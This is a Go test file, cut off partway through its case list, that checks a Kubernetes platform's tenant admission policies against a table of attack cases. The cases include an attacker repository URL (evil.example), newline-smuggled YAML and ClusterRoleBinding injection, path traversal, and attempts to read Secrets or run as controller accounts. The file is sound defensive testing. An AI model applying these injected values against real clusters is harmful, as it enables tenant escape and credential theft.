package workloads_test

import (
	"context"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"cluster-init.dev/cluster-init/internal/apply"
	"cluster-init.dev/cluster-init/internal/clusteraccess"
	"cluster-init.dev/cluster-init/internal/kube"
	"cluster-init.dev/cluster-init/internal/names"
	"cluster-init.dev/cluster-init/internal/render"
	"cluster-init.dev/cluster-init/internal/testenv"
	"cluster-init.dev/cluster-init/internal/values"
	"cluster-init.dev/cluster-init/internal/workloads"
)

// twoTenants is the platform's values of the admission tests: the default tenant and team-b, each
// with a name prefix of its own, team-b with a limit of one cluster (and team-sim, whose clusters
// are simulated in memory), and a management cluster
// whose name starts with the default tenant's prefix (a prefix alone does not keep a tenant from
// the platform's names).
var twoTenants = map[string]any{
	"cluster": map[string]any{"name": "wl-management"},
	"workload_clusters": map[string]any{"tenants": map[string]any{
		"workload-clusters": map[string]any{"name_prefix": "wl", "path": "./clusters/management/workload-clusters", "readers_group": readersA},
		"team-b":            map[string]any{"name_prefix": "b-", "path": "./clusters/management/team-b", "limits": map[string]any{"clusters": 1}},
		"team-sim":          map[string]any{"name_prefix": "sim-", "path": "./clusters/management/team-sim", "infrastructure": "in-memory"},
	}},
}

const (
	tenantA    = "system:serviceaccount:workload-clusters:tenant"
	builderA   = "system:serviceaccount:workload-clusters:cluster-builder"
	tenantB    = "system:serviceaccount:team-b:tenant"
	builderB   = "system:serviceaccount:team-b:cluster-builder"
	tenantSim  = "system:serviceaccount:team-sim:tenant"
	builderSim = "system:serviceaccount:team-sim:cluster-builder"
	// readersA is the default tenant's people; alice one of them.
	readersA = "oidc:team-a"
	alice    = "alice"
)

// tenantTestbed is a real API server with what the workload-clusters unit installs for two tenants.
type tenantTestbed struct {
	c *kube.Cluster
	// release is wl1's HelmRelease as the tenant's Kustomization applies it; units are the Flux
	// objects the platform builds from it (its release's Kustomizations and the definitions' HelmRelease).
	release *unstructured.Unstructured
	units   []*unstructured.Unstructured
	// policies are the admission policies as rendered, by name; params each tenant's parameters.
	policies map[string]*unstructured.Unstructured
	params   map[string]*unstructured.Unstructured
	// installed is what the workload-clusters unit installs in the management cluster.
	installed []*unstructured.Unstructured
	// definitions are wl1's cluster definitions, as its definitions' release renders them; built
	// is everything the builder writes for wl1 (its units, their release, the unit graph, the
	// definitions), each as its controller writes it.
	definitions []*unstructured.Unstructured
	built       []*unstructured.Unstructured
	// mgmt is the management cluster rendered, r its renderer: for more of the tenants' clusters.
	mgmt *render.Result
	r    *render.Renderer
}

// renderTenantTestbed renders what the workload-clusters unit installs for two tenants, and
// wl1's release and units.
func renderTenantTestbed(t *testing.T) *tenantTestbed {
	t.Helper()
	wl1, err := os.ReadFile(filepath.Join("testdata", "clusters/management/workload-clusters/wl1/cluster.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	return renderTenantTestbedOf(t, "kubeadm-capd", twoTenants, string(wl1))
}

// renderTenantTestbedOf renders what the workload-clusters unit of environment env installs for
// the tenants of the values given, and the release and units of wl1, the default tenant's
// cluster written as wl1.
func renderTenantTestbedOf(t *testing.T, env string, tenants map[string]any, wl1 string) *tenantTestbed {
	t.Helper()
	// Credentials come from the environment's secrets file, the rest as --values.
	tenants = maps.Clone(tenants)
	credentials, _ := tenants["credentials"].(map[string]any)
	delete(tenants, "credentials")
	mgmt, r := managementWithSecrets(t, env, credentials, values.FromMap("(test)", tenants))
	tb := &tenantTestbed{policies: map[string]*unstructured.Unstructured{}, params: map[string]*unstructured.Unstructured{}, mgmt: mgmt, r: r}
	for _, o := range mgmt.Objects {
		// The tenants' objects (the sources live in the platform's namespace, not made here).
		if o.Unit != "workload-clusters" || o.Object.GetNamespace() == "cluster-init" {
			continue
		}
		tb.installed = append(tb.installed, o.Object)
		switch {
		case o.Object.GetKind() == "ValidatingAdmissionPolicy":
			tb.policies[o.Object.GetName()] = o.Object
		case o.Object.GetKind() == "ConfigMap" && o.Object.GetName() == names.TenantParamsConfigMap:
			tb.params[o.Object.GetNamespace()] = o.Object
		}
	}
	repo := writeRepository(t, map[string]string{"clusters/management/workload-clusters/wl1/cluster.yaml": wl1})
	p, err := workloads.Read(t.Context(), repo, mgmt, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Clusters) != 1 {
		t.Fatalf("clusters: %v", p.Clusters)
	}
	tb.release = p.Clusters[0].Release
	res, err := p.Render(t.Context(), r, p.Clusters[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range builtInTheManagementCluster(res) {
		obj := asApplied(o, "wl1", "workload-clusters")
		tb.built = append(tb.built, obj)
		if k := o.Object.GetKind(); k == "Kustomization" && o.Unit == "" || k == "HelmRelease" && o.Unit != "" {
			tb.units = append(tb.units, obj)
		}
		if o.Release != nil && o.Release.Name == "wl1-cluster" {
			tb.definitions = append(tb.definitions, obj)
		}
	}
	return tb
}

// startTenantTestbed is renderTenantTestbed installed on a real API server.
func startTenantTestbed(t *testing.T) *tenantTestbed {
	t.Helper()
	return renderTenantTestbed(t).start(t)
}

// start installs the rendered test bed on a real API server.
func (tb *tenantTestbed) start(t *testing.T) *tenantTestbed {
	t.Helper()
	tb.c = testenv.Start(t, "management")
	if _, err := apply.New(tb.c).Apply(t.Context(), tb.installed); err != nil {
		t.Fatal(err)
	}
	// No quota controller runs here: the quotas' status is what it would write, and the API
	// server's quota admission counts from there.
	var quotas corev1.ResourceQuotaList
	if err := tb.c.Client.List(t.Context(), &quotas); err != nil {
		t.Fatal(err)
	}
	for _, q := range quotas.Items {
		q.Status.Hard = q.Spec.Hard
		q.Status.Used = corev1.ResourceList{}
		for k, v := range q.Spec.Hard {
			zero := v.DeepCopy()
			zero.Set(0)
			q.Status.Used[k] = zero
		}
		if err := tb.c.Client.Status().Update(t.Context(), &q); err != nil {
			t.Fatal(err)
		}
	}
	// The API server takes up new policies within seconds: until it refuses what it must.
	bad := tb.release.DeepCopy()
	_ = unstructured.SetNestedField(bad.Object, true, "spec", "install", "disableSchemaValidation")
	if err := wait.PollUntilContextTimeout(t.Context(), 500*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
		return tb.create(t, tenantA, bad) != nil, nil
	}); err != nil {
		t.Fatal("the admission policy never took effect")
	}
	return tb
}

// objects are the objects of a case, edited, in their namespace.
func (tb *tenantTestbed) objects(t *testing.T, tc admissionCase) []*unstructured.Unstructured {
	t.Helper()
	objs := []*unstructured.Unstructured{tb.release}
	release := tc.object == nil && tc.definition == "" && tc.unit == "" && !tc.built
	if tc.built {
		objs = tb.built
	}
	if tc.defaulted {
		objs = nil
		for _, o := range tb.built {
			objs = append(objs, withProviderDefaults(o))
		}
	}
	if tc.object != nil {
		objs = []*unstructured.Unstructured{tc.object()}
	}
	if tc.definition != "" {
		objs = nil
		for _, d := range tb.definitions {
			if d.GetKind() == tc.definition {
				objs = append(objs, d)
			}
		}
		if len(objs) == 0 {
			t.Fatalf("no definition %s among the rendered ones", tc.definition)
		}
	}
	if tc.unit != "" {
		objs = nil
		for _, u := range tb.units {
			if tc.unit == "*" || u.GetName() == tc.unit || u.GetKind()+"/"+u.GetName() == tc.unit {
				objs = append(objs, u)
			}
		}
		if len(objs) == 0 {
			t.Fatalf("no unit %s among the rendered ones", tc.unit)
		}
	}
	var out []*unstructured.Unstructured
	for _, o := range objs {
		obj := o.DeepCopy()
		if obj.GetNamespace() == "" || tc.object == nil {
			obj.SetNamespace("workload-clusters")
		}
		if tc.ns != "" {
			obj.SetNamespace(tc.ns)
			if release {
				// As the Kustomization of that tenant applies it: in its shard.
				labels := obj.GetLabels()
				labels[shardLabel] = tc.ns
				obj.SetLabels(labels)
			}
		}
		if tc.edit != nil {
			tc.edit(obj.Object)
		}
		out = append(out, obj)
	}
	return out
}

// offline is what this package's evaluation of the policies (validate's) answers for obj.
func (tb *tenantTestbed) offline(t *testing.T, pols map[string]*workloads.Policy, user string, obj *unstructured.Unstructured) []string {
	t.Helper()
	return tb.offlineOp(t, pols, "", user, obj)
}

// offlineOp is offline for an operation of a case (create, update or delete) on obj: an update or
// deletion of the object the test bed installed of its kind and name.
func (tb *tenantTestbed) offlineOp(t *testing.T, pols map[string]*workloads.Policy, op, user string, obj *unstructured.Unstructured) []string {
	t.Helper()
	operation, newObj := strings.ToUpper(op), obj
	var old *unstructured.Unstructured
	if op == "" {
		operation = "CREATE"
	} else {
		for _, o := range tb.installed {
			if o.GetKind() == obj.GetKind() && o.GetNamespace() == obj.GetNamespace() && o.GetName() == obj.GetName() {
				old = o
			}
		}
		if old == nil {
			t.Fatalf("%s of %s %s/%s: the test bed installs none", op, obj.GetKind(), obj.GetNamespace(), obj.GetName())
		}
		if op == "delete" {
			newObj = nil
		}
	}
	var refused []string
	for _, name := range []string{"cluster-init-tenant-releases", "cluster-init-tenant-builds"} {
		msgs, err := pols[name].AdmitRequest(operation, newObj, old, obj.GetNamespace(), user, tb.params[obj.GetNamespace()])
		if err != nil {
			t.Fatal(err)
		}
		refused = append(refused, msgs...)
	}
	return refused
}

func (tb *tenantTestbed) compiled(t *testing.T) map[string]*workloads.Policy {
	t.Helper()
	out := map[string]*workloads.Policy{}
	for name, obj := range tb.policies {
		// What a tenant writes and what its builder writes; the readers' Role has its own test.
		if name != "cluster-init-tenant-releases" && name != "cluster-init-tenant-builds" {
			continue
		}
		p, err := workloads.CompilePolicy(obj)
		if err != nil {
			t.Fatal(err)
		}
		out[name] = p
	}
	if len(out) != 2 {
		t.Fatalf("policies: %v", out)
	}
	return out
}

// as is a client of the API server acting as user (a ServiceAccount, with its groups).
func (tb *tenantTestbed) as(t *testing.T, user string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(tb.c.Config)
	groups := []string{"system:authenticated", readersA}
	if strings.HasPrefix(user, "system:serviceaccount:") {
		ns := strings.Split(user, ":")[2]
		groups = []string{"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"}
	}
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups}
	cl, err := client.New(cfg, client.Options{Scheme: tb.c.Client.Scheme(), Mapper: tb.c.Mapper})
	if err != nil {
		t.Fatal(err)
	}
	return cl
}

// do creates obj as user, or updates or deletes the object of its name, in server-side dry-run:
// every admission step, nothing stored.
func (tb *tenantTestbed) do(t *testing.T, op, user string, obj *unstructured.Unstructured) error {
	t.Helper()
	switch op {
	case "":
		return tb.create(t, user, obj)
	case "update":
		cur := obj.DeepCopy()
		if err := tb.c.Client.Get(t.Context(), client.ObjectKeyFromObject(obj), cur); err != nil {
			t.Fatal(err)
		}
		obj.SetResourceVersion(cur.GetResourceVersion())
		return tb.as(t, user).Update(t.Context(), obj.DeepCopy(), client.DryRunAll)
	case "delete":
		return tb.as(t, user).Delete(t.Context(), obj.DeepCopy(), client.DryRunAll)
	}
	t.Fatalf("operation %q", op)
	return nil
}

// create creates obj as user in server-side dry-run: every admission step, nothing stored.
func (tb *tenantTestbed) create(t *testing.T, user string, obj *unstructured.Unstructured) error {
	t.Helper()
	return tb.as(t, user).Create(t.Context(), obj.DeepCopy(), client.DryRunAll)
}

type admissionCase struct {
	name string
	user string
	ns   string
	// object, if set, is the object of the case (instead of wl1's release or a unit); op is
	// create (default), update or delete (of the object as the API server has it).
	object func() *unstructured.Unstructured
	op     string
	// edit changes a valid object (wl1's release, the unit named by unit, or the definition of
	// the kind named by definition).
	unit       string
	definition string
	// built: everything the builder writes for wl1, as the charts render it; defaulted: as the
	// providers' defaulting webhooks then make it, before the policies see it.
	built, defaulted bool
	edit             func(o map[string]any)
	// refused is a part of the API server's answer; empty: admitted.
	refused string
}

func set(path string, v any) func(o map[string]any) {
	return func(o map[string]any) { _ = unstructured.SetNestedField(o, v, strings.Split(path, ".")...) }
}

func del(path string) func(o map[string]any) {
	return func(o map[string]any) { unstructured.RemoveNestedField(o, strings.Split(path, ".")...) }
}

func rename(name string) func(o map[string]any) {
	return func(o map[string]any) {
		_ = unstructured.SetNestedField(o, name, "metadata", "name")
		_ = unstructured.SetNestedField(o, name, "spec", "values", "cluster", "name")
	}
}

func all(edits ...func(o map[string]any)) func(o map[string]any) {
	return func(o map[string]any) {
		for _, e := range edits {
			e(o)
		}
	}
}

// What a tenant writes is checked by the API server field by field, against an allow-list, and
// what the platform builds from it is held to its namespace; each case is an attack that must
// fail (or a valid cluster that must pass), with the field named in the answer.
func TestTheAPIServerHoldsATenantToItsClusters(t *testing.T) {
	tb := startTenantTestbed(t)
	tb.admit(t, tb.casesWith(admissionCases()))
	tb.keepsTheShardOnUpdate(t)
	tb.keepsWhatItsControllerSet(t)
	tb.refusesEveryOtherField(t)
}

// keepsWhatItsControllerSet: an update of the builder's Cluster keeps the endpoint Cluster API
// set, and may not change it; an update of its DockerCluster keeps the load balancer and endpoint
// CAPD's controller wrote (its DevCluster round trip), and may not set or change them.
func (tb *tenantTestbed) keepsWhatItsControllerSet(t *testing.T) {
	t.Helper()
	var cluster, docker *unstructured.Unstructured
	for _, d := range tb.definitions {
		switch d.GetKind() {
		case "Cluster":
			cluster = d.DeepCopy()
		case "DockerCluster":
			docker = d.DeepCopy()
		}
	}
	// As CAPD's controller writes it back.
	byCAPD := docker.DeepCopy()
	_ = unstructured.SetNestedMap(byCAPD.Object, map[string]any{}, "spec", "loadBalancer")
	_ = unstructured.SetNestedMap(byCAPD.Object, map[string]any{"host": "172.18.0.9", "port": int64(6443)}, "spec", "controlPlaneEndpoint")
	if err := tb.c.Client.Create(t.Context(), byCAPD.DeepCopy()); err != nil {
		t.Fatal(err)
	}
	if err := tb.do(t, "update", builderA, byCAPD.DeepCopy()); err != nil {
		t.Errorf("DockerCluster %s updated with what CAPD set: %v", docker.GetName(), err)
	}
	changed := byCAPD.DeepCopy()
	_ = unstructured.SetNestedMap(changed.Object, map[string]any{"customHAProxyConfigTemplateRef": map[string]any{"name": "mine"}}, "spec", "loadBalancer")
	if err := tb.do(t, "update", builderA, changed); err == nil || !strings.Contains(err.Error(), "spec.loadBalancer") {
		t.Errorf("DockerCluster %s updated with a load balancer of the build's: %v", docker.GetName(), err)
	}
	if err := tb.do(t, "", builderA, func() *unstructured.Unstructured {
		o := docker.DeepCopy()
		o.SetName(o.GetName() + "x")
		_ = unstructured.SetNestedMap(o.Object, map[string]any{"customHAProxyConfigTemplateRef": map[string]any{"name": "mine"}}, "spec", "loadBalancer")
		return o
	}()); err == nil || !strings.Contains(err.Error(), "spec.loadBalancer") {
		t.Errorf("a DockerCluster created with a load balancer: %v", err)
	}
	_ = unstructured.SetNestedMap(cluster.Object, map[string]any{"host": "172.18.0.9", "port": int64(6443)}, "spec", "controlPlaneEndpoint")
	if err := tb.c.Client.Create(t.Context(), cluster.DeepCopy()); err != nil {
		t.Fatal(err)
	}
	if err := tb.do(t, "update", builderA, cluster.DeepCopy()); err != nil {
		t.Errorf("Cluster %s updated with the endpoint Cluster API set: %v", cluster.GetName(), err)
	}
	_ = unstructured.SetNestedField(cluster.Object, "172.18.0.2", "spec", "controlPlaneEndpoint", "host")
	if err := tb.do(t, "update", builderA, cluster); err == nil || !strings.Contains(err.Error(), "spec.controlPlaneEndpoint: not a field") {
		t.Errorf("Cluster %s updated with an endpoint of the build's: %v", cluster.GetName(), err)
	}
}

// casesWith are cases and two more: what the builder writes for wl1 as the charts render it is
// admitted, and so it is once the providers' webhooks defaulted it.
func (tb *tenantTestbed) casesWith(cases []admissionCase) []admissionCase {
	return append(cases, admissionCase{name: "everything the builder writes for wl1, as the charts render it", user: builderA, built: true},
		admissionCase{name: "everything the builder writes for wl1, as the providers' webhooks default it", user: builderA, built: true, defaulted: true})
}

// keepsTheShardOnUpdate: a tenant's release, or a unit of its builder's, may not leave its
// shard by an update either.
func (tb *tenantTestbed) keepsTheShardOnUpdate(t *testing.T) {
	t.Helper()
	var unit *unstructured.Unstructured
	for _, u := range tb.units {
		if u.GetName() == "wl1-cluster-ready" {
			unit = u.DeepCopy()
		}
	}
	for _, c := range []struct {
		user string
		obj  *unstructured.Unstructured
	}{{tenantA, tb.release.DeepCopy()}, {builderA, unit}} {
		c.obj.SetNamespace("workload-clusters")
		if err := tb.c.Client.Create(t.Context(), c.obj.DeepCopy()); err != nil {
			t.Fatal(err)
		}
		if err := tb.do(t, "update", c.user, c.obj.DeepCopy()); err != nil {
			t.Errorf("%s %s updated as it is: %v", c.obj.GetKind(), c.obj.GetName(), err)
		}
		unlabelled := c.obj.DeepCopy()
		labels := unlabelled.GetLabels()
		delete(labels, shardLabel)
		unlabelled.SetLabels(labels)
		if err := tb.do(t, "update", c.user, unlabelled); err == nil || !strings.Contains(err.Error(), "sharding.fluxcd.io/key: expected workload-clusters") {
			t.Errorf("%s %s updated out of its shard: %v", c.obj.GetKind(), c.obj.GetName(), err)
		}
	}
}

// admit runs each case against the API server: refused naming what it names, or admitted; and
// validate's evaluation of the policies must answer a creation alike.
func (tb *tenantTestbed) admit(t *testing.T, cases []admissionCase) {
	t.Helper()
	pols := tb.compiled(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			for _, obj := range tb.objects(t, tc) {
				err := tb.do(t, tc.op, tc.user, obj)
				switch {
				case tc.refused == "" && err != nil:
					t.Errorf("%s %s refused: %v", obj.GetKind(), obj.GetName(), err)
				case tc.refused != "" && err == nil:
					t.Errorf("%s %s admitted", obj.GetKind(), obj.GetName())
				case tc.refused != "" && !strings.Contains(err.Error(), tc.refused):
					t.Errorf("%s %s refused without naming %q: %v", obj.GetKind(), obj.GetName(), tc.refused, err)
				}
				// validate answers a tenant as the API server will (it only creates).
				if off := tb.offline(t, pols, tc.user, obj); tc.op == "" && (len(off) == 0) != (err == nil) {
					t.Errorf("%s %s: the API server answers %v, validate %v", obj.GetKind(), obj.GetName(), err, off)
				}
			}
		})
	}
}

// Every rule of the policies is needed: without it, an attack of the cases gets through (the
// policies evaluated as the API server does, with its CEL libraries, each rule left out in turn).
func TestEveryRuleOfTheTenantPoliciesStopsAnAttack(t *testing.T) {
	// The tenants of a management cluster on Docker, and those of one on OpenStack.
	beds := []struct {
		tb    *tenantTestbed
		pols  map[string]*workloads.Policy
		cases []admissionCase
	}{{tb: renderTenantTestbed(t), cases: admissionCases()}, {tb: renderCAPOTenantTestbed(t), cases: capoAdmissionCases()},
		{tb: renderRKE2TenantTestbed(t)}, {tb: renderSimulatedTenantTestbed(t)}}
	for i := range beds {
		beds[i].pols = beds[i].tb.compiled(t)
		beds[i].cases = append(beds[i].tb.casesWith(beds[i].cases), strayFieldCases(beds[i].tb.built, builderA)...)
	}
	for name, p := range beds[0].pols {
		for i := range p.Validations() {
			var through []string
			for _, bed := range beds {
				broken := map[string]*workloads.Policy{}
				for n, q := range bed.pols {
					broken[n] = q
				}
				broken[name] = bed.pols[name].Without(i)
				for _, tc := range bed.cases {
					if tc.refused == "" {
						continue
					}
					for _, obj := range bed.tb.objects(t, tc) {
						if len(bed.tb.offlineOp(t, broken, tc.op, tc.user, obj)) == 0 {
							through = append(through, tc.name)
						}
					}
				}
			}
			if len(through) == 0 {
				t.Errorf("%s without its rule %d: no attack gets through, so no case shows the rule is needed", name, i)
			} else {
				t.Logf("%s without its rule %d: %s", name, i, strings.Join(through, ", "))
			}
		}
	}
}

// obj is an object of the default tenant's namespace with extra fields.
func obj(apiVersion, kind, name string, extra map[string]any) func() *unstructured.Unstructured {
	return func() *unstructured.Unstructured {
		o := map[string]any{"apiVersion": apiVersion, "kind": kind}
		for k, v := range extra {
			o[k] = v
		}
		u := &unstructured.Unstructured{Object: o}
		u.SetName(name)
		u.SetNamespace("workload-clusters")
		return u
	}
}

// clusterOf is a Cluster of the default tenant's namespace as its chart makes one: its own
// control plane and Docker infrastructure.
func clusterOf(name string) func() *unstructured.Unstructured {
	return obj("cluster.x-k8s.io/v1beta2", "Cluster", name, map[string]any{"spec": map[string]any{
		"controlPlaneRef":   map[string]any{"apiGroup": "controlplane.cluster.x-k8s.io", "kind": "KubeadmControlPlane", "name": name + "-control-plane"},
		"infrastructureRef": map[string]any{"apiGroup": "infrastructure.cluster.x-k8s.io", "kind": "DockerCluster", "name": name}}})
}

func admissionCases() []admissionCase {
	ok := ""
	tb0 := paramsEdits{}
	wl1Machines := map[string]any{"matchLabels": map[string]any{"cluster.x-k8s.io/cluster-name": "wl1"}}
	return append([]admissionCase{
		{name: "a valid workload cluster", user: tenantA, refused: ok},
		{name: "workers at the tenant's limit", user: tenantA, edit: set("spec.values.cluster.workers.replicas", int64(5)), refused: ok},
		{name: "providers and version named as the platform runs them", user: tenantA, edit: all(set("spec.values.cluster.providers.infrastructure", "capd"), set("spec.values.cluster.kubernetes_version", "v1.37.0")), refused: ok},
		{name: "another tenant's valid cluster", user: tenantB, ns: "team-b", edit: rename("b-one"), refused: ok},

		// The HelmRelease is the platform's: nothing of its spec is the tenant's to change.
		{name: "schema validation off at install", user: tenantA, edit: set("spec.install.disableSchemaValidation", true), refused: "spec.install"},
		{name: "schema validation off at upgrade", user: tenantA, edit: set("spec.upgrade.disableSchemaValidation", true), refused: "spec.upgrade"},
		{name: "CRDs created and replaced", user: tenantA, edit: set("spec.install.crds", "CreateReplace"), refused: "spec.install"},
		{name: "forced upgrade keeping old values", user: tenantA, edit: all(set("spec.upgrade.force", true), set("spec.upgrade.preserveValues", true)), refused: "spec.upgrade"},
		{name: "a release name of its own", user: tenantA, edit: set("spec.releaseName", "cluster-init"), refused: "spec.releaseName"},
		{name: "labels on every object of the release", user: tenantA, edit: set("spec.commonMetadata.labels", map[string]any{"cluster.x-k8s.io/cluster-name": "management"}), refused: "spec.commonMetadata"},
		{name: "a dependency in another namespace", user: tenantA, edit: set("spec.dependsOn", []any{map[string]any{"name": "cluster-init", "namespace": "cluster-init"}}), refused: "spec.dependsOn"},
		{name: "values from the platform's ConfigMap into a path of its choice", user: tenantA, edit: set("spec.valuesFrom", []any{map[string]any{"kind": "ConfigMap", "name": "workload-cluster-platform", "valuesKey": "values.yaml", "targetPath": "units.capi.enabled"}}), refused: "spec.valuesFrom"},
		{name: "values from a Secret", user: tenantA, edit: set("spec.valuesFrom", []any{map[string]any{"kind": "ConfigMap", "name": "workload-cluster-platform", "valuesKey": "values.yaml"}, map[string]any{"kind": "Secret", "name": "wl2-kubeconfig"}}), refused: "spec.valuesFrom"},
		{name: "drift detection switched", user: tenantA, edit: set("spec.driftDetection.mode", "disabled"), refused: "spec.driftDetection"},
		{name: "post-renderers", user: tenantA, edit: set("spec.postRenderers", []any{map[string]any{"kustomize": map[string]any{"patches": []any{}}}}), refused: "spec.postRenderers"},
		{name: "a kubeconfig of another cluster", user: tenantA, edit: set("spec.kubeConfig.secretRef.name", "management-kubeconfig"), refused: "spec.kubeConfig"},
		{name: "helm-controller's own account", user: tenantA, edit: set("spec.serviceAccountName", "helm-controller"), refused: "spec.serviceAccountName"},
		{name: "no account at all (the controller's)", user: tenantA, edit: del("spec.serviceAccountName"), refused: "spec.serviceAccountName"},
		{name: "another target namespace", user: tenantA, edit: set("spec.targetNamespace", "cluster-init"), refused: "spec.targetNamespace"},
		{name: "another storage namespace", user: tenantA, edit: set("spec.storageNamespace", "kube-system"), refused: "spec.storageNamespace"},
		{name: "another chart of the platform's source", user: tenantA, edit: set("spec.chart.spec.chart", "./charts/workload-clusters"), refused: "spec.chart"},
		{name: "the chart from a source of its own", user: tenantA, edit: set("spec.chart.spec.sourceRef.namespace", "workload-clusters"), refused: "spec.chart"},
		{name: "the management context's values file", user: tenantA, edit: set("spec.chart.spec.valuesFiles", []any{"./charts/cluster-init/values.yaml", "./charts/cluster-init/management.values.yaml"}), refused: "spec.chart"},
		{name: "a chart version of its own", user: tenantA, edit: set("spec.chart.spec.version", "0.0.1"), refused: "spec.chart"},
		{name: "a reconcile every second", user: tenantA, edit: set("spec.interval", "1s"), refused: "spec.interval"},
		{name: "a longer timeout", user: tenantA, edit: set("spec.timeout", "24h"), refused: "spec.timeout"},
		{name: "an owner that deletes it", user: tenantA, edit: set("metadata.ownerReferences", []any{map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "00000000-0000-0000-0000-000000000000"}}), refused: "ownerReferences"},

		// Its values: the cluster's, each key with what it may hold.
		{name: "the units of the platform", user: tenantA, edit: set("spec.values.units.capi.enabled", true), refused: "spec.values.units"},
		{name: "the platform's source", user: tenantA, edit: set("spec.values.source.url", "https://evil.example/repo.git"), refused: "spec.values.source"},
		{name: "the Docker socket in its machines", user: tenantA, edit: set("spec.values.cluster.capd.docker_socket", true), refused: "spec.values.cluster.capd"},
		{name: "a node image of its own", user: tenantA, edit: set("spec.values.cluster.rke2_air_gapped.enabled", true), refused: "spec.values.cluster.rke2_air_gapped"},
		{name: "a cluster name that is not the release's", user: tenantA, edit: set("spec.values.cluster.name", "wl2"), refused: "expected the HelmRelease's name"},
		{name: "a name that is no DNS label", user: tenantA, edit: rename("wl-Big"), refused: "metadata.name"},
		{name: "a name too long for its machines' host names", user: tenantA, edit: rename("wl" + strings.Repeat("x", 42)), refused: "at most 43"},
		{name: "the management cluster's name", user: tenantA, edit: rename("wl-management"), refused: "is the name of a cluster of the platform"},
		{name: "a name its machines would share with the management cluster's", user: tenantA, edit: rename("wl-management-control-plane"), refused: "is the name of a cluster of the platform"},
		{name: "another tenant's names", user: tenantA, edit: rename("b-one"), refused: "are named wl"},
		{name: "the default tenant's names, from team-b", user: tenantB, ns: "team-b", edit: rename("wl1"), refused: "are named b-"},
		{name: "an infrastructure the platform does not run", user: tenantA, edit: set("spec.values.cluster.providers.infrastructure", "capo"), refused: "spec.values.cluster.providers"},
		{name: "a bootstrap provider the platform does not run", user: tenantA, edit: set("spec.values.cluster.providers.bootstrap", "rke2"), refused: "spec.values.cluster.providers"},
		{name: "a Kubernetes version out of skew", user: tenantA, edit: set("spec.values.cluster.kubernetes_version", "v1.30.0"), refused: "kubernetes_version"},
		{name: "an even number of control plane machines", user: tenantA, edit: set("spec.values.cluster.control_plane.replicas", int64(2)), refused: "spec.values.cluster.control_plane"},
		{name: "control plane machines over the limit", user: tenantA, edit: set("spec.values.cluster.control_plane.replicas", int64(5)), refused: "spec.values.cluster.control_plane"},
		{name: "400 workers", user: tenantA, edit: set("spec.values.cluster.workers.replicas", int64(400)), refused: "spec.values.cluster.workers"},
		{name: "a negative worker count", user: tenantA, edit: set("spec.values.cluster.workers.replicas", int64(-1)), refused: "spec.values.cluster.workers"},
		{name: "a worker count that is a string", user: tenantA, edit: set("spec.values.cluster.workers.replicas", "3"), refused: "spec.values.cluster.workers"},
		{name: "a document injected through the service domain", user: tenantA, edit: set("spec.values.cluster.network.service_domain", "cluster.local\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding"), refused: "spec.values.cluster.network"},
		{name: "a pod CIDR that is not one", user: tenantA, edit: set("spec.values.cluster.network.pods_cidr", "10.0.0.0/16\n  injected: true"), refused: "spec.values.cluster.network"},
		{name: "a network key of its own", user: tenantA, edit: set("spec.values.cluster.network.dns", "8.8.8.8"), refused: "spec.values.cluster.network"},
		{name: "a CNI path outside the components", user: tenantA, edit: set("spec.values.cluster.cni.flannel_backend", "../../clusters/management/team-b"), refused: "spec.values.cluster.cni"},
		{name: "a flavor with a newline", user: tenantA, edit: set("spec.values.cluster.workers.flavor", "m1\ninjected: true"), refused: "flavor"},

		// What the platform builds from the values runs as the builder, in the namespace.
		{name: "the builder's units as the workload release renders them", user: builderA, unit: "*", refused: ok},
		{name: "a unit applied as the controller", user: builderA, unit: "wl1-cluster-ready", edit: del("spec.serviceAccountName"), refused: "runs as cluster-builder"},
		{name: "a unit applied as another account", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.serviceAccountName", "tenant"), refused: "runs as cluster-builder"},
		{name: "a unit of a path outside the components", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.path", "./kustomize-components/../clusters"), refused: "applies ./kustomize-components/"},
		{name: "a unit of another source", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.sourceRef.namespace", "team-b"), refused: "applies ./kustomize-components/"},
		{name: "a unit into another namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.targetNamespace", "cluster-init"), refused: "stays in its namespace"},
		{name: "a kubeconfig unit that also impersonates", user: builderA, unit: "wl1-cni", edit: set("spec.serviceAccountName", "cluster-builder"), refused: "through its <cluster>-kubeconfig Secret"},
		{name: "a release of another chart", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.chart.spec.chart", "charts/workload-clusters"), refused: "charts/capi-cluster"},
		{name: "a release with post-renderers", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.postRenderers", []any{map[string]any{}}), refused: "postRenderers"},
		{name: "a release applied as the controller", user: builderA, unit: "HelmRelease/wl1-cluster", edit: del("spec.serviceAccountName"), refused: "runs as cluster-builder"},
		// The platform's Secrets of the namespace (a cloud's credentials) are no unit's to read.
		{name: "a unit substituting a Secret into the tenant's cluster", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substituteFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret}}), refused: "spec.postBuild.substituteFrom: not a field"},
		{name: "a unit decrypting with a Secret of the namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.decryption", map[string]any{"provider": "sops", "secretRef": map[string]any{"name": names.TenantCloudCredentialsSecret}}), refused: "spec.decryption: not a field"},
